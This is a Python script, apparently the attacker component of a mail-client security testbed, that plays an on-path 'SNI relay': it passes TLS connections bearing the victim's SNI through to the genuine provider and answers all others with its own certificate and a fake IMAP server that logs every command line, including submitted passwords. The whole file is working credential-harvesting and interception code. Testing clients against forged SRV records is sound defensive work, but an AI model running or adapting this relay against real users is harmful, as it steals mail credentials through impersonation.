#!/usr/bin/env python3
"""sni-relay.py -- the SNI-relay attacker of the testbed (docs/SECURITY.md, "SNI relay").

    sni-relay.py LISTEN_ADDR PORT UPSTREAM_ADDR VICTIM_SNI CERT_PEM COMMAND_LOG

An on-path attacker who forged an unsigned SRV record points it at this server. It reads
each ClientHello without consuming it: a ClientHello whose SNI is VICTIM_SNI is piped,
untouched, to UPSTREAM_ADDR:PORT (the genuine provider, which holds the mail domain's
certificate); every other ClientHello is answered with CERT_PEM (a valid certificate for
the relay's own name) and a fake IMAP server that appends every command line it receives
to COMMAND_LOG. A client that sends its password to the relay therefore leaves it in
COMMAND_LOG; one bound to SNI = the mail domain only ever reaches the provider.

Loopback only; stops on SIGTERM. Prints one "ready" line on stdout once listening.
"""
import os
import select
import signal
import socket
import ssl
import struct
import sys
import threading

MAX_HELLO = 16384 + 5
IO_TIMEOUT = 10.0


def server_name(hello: bytes):
    """The SNI host name of a TLS ClientHello record, or None (no SNI or not parsable)."""
    try:
        if hello[0] != 0x16:
            return None
        body = hello[5:]
        if body[0] != 0x01:
            return None
        p = 4 + 2 + 32                       # handshake header, version, random
        p += 1 + body[p]                     # session id
        p += 2 + struct.unpack_from("!H", body, p)[0]   # cipher suites
        p += 1 + body[p]                     # compression methods
        end = p + 2 + struct.unpack_from("!H", body, p)[0]
        p += 2
        while p + 4 <= end:
            ext, n = struct.unpack_from("!HH", body, p)
            p += 4
            if ext == 0:                     # server_name
                q = p + 2
                while q + 3 <= p + n:
                    kind, m = body[q], struct.unpack_from("!H", body, q + 1)[0]
                    if kind == 0:
                        return body[q + 3:q + 3 + m].decode("ascii").lower()
                    q += 3 + m
                return None
            p += n
    except (IndexError, struct.error, UnicodeDecodeError):
        return None
    return None


def peek_hello(conn: socket.socket) -> bytes:
    """The first TLS record, peeked (left in the socket)."""
    data = b""
    while True:
        data = conn.recv(MAX_HELLO, socket.MSG_PEEK)
        if not data:
            return b""
        if len(data) >= 5:
            want = 5 + struct.unpack_from("!H", data, 3)[0]
            if len(data) >= want:
                return data[:want]
        select.select([conn], [], [], 0.05)


def pipe(a: socket.socket, b: socket.socket):
    socks = [a, b]
    try:
        while True:
            ready, _, _ = select.select(socks, [], [], IO_TIMEOUT)
            if not ready:
                return
            for s in ready:
                data = s.recv(65536)
                if not data:
                    return
                (b if s is a else a).sendall(data)
    except OSError:
        return


def fake_imap(tls: ssl.SSLSocket, log_path: str, lock: threading.Lock):
    f = tls.makefile("rwb")
    f.write(b"* OK [CAPABILITY IMAP4rev1 AUTH=PLAIN] relay ready\r\n")
    f.flush()
    for line in f:
        with lock, open(log_path, "ab") as log:
            log.write(line.rstrip(b"\r\n") + b"\n")
        tag = line.split(b" ", 1)[0]
        if b"LOGOUT" in line.upper():
            f.write(b"* BYE\r\n" + tag + b" OK bye\r\n")
            f.flush()
            return
        f.write(tag + b" OK done\r\n")
        f.flush()


def serve(conn, upstream, victim, ctx, log_path, lock):
    conn.settimeout(IO_TIMEOUT)
    try:
        hello = peek_hello(conn)
        if not hello:
            return
        if server_name(hello) == victim:
            with socket.create_connection(upstream, timeout=IO_TIMEOUT) as up:
                pipe(conn, up)
        else:
            with ctx.wrap_socket(conn, server_side=True) as tls:
                fake_imap(tls, log_path, lock)
    except (OSError, ssl.SSLError):
        pass
    finally:
        try:
            conn.close()
        except OSError:
            pass


def main():
    listen_addr, port, upstream_addr, victim, cert, log_path = sys.argv[1:7]
    port = int(port)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert)
    open(log_path, "ab").close()
    lock = threading.Lock()
    family = socket.AF_INET6 if ":" in listen_addr else socket.AF_INET
    srv = socket.socket(family, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((listen_addr, port))
    srv.listen(64)
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    print(f"ready {listen_addr}:{port}", flush=True)
    while True:
        conn, _ = srv.accept()
        threading.Thread(
            target=serve,
            args=(conn, (upstream_addr, port), victim, ctx, log_path, lock),
            daemon=True,
        ).start()


if __name__ == "__main__":
    main()
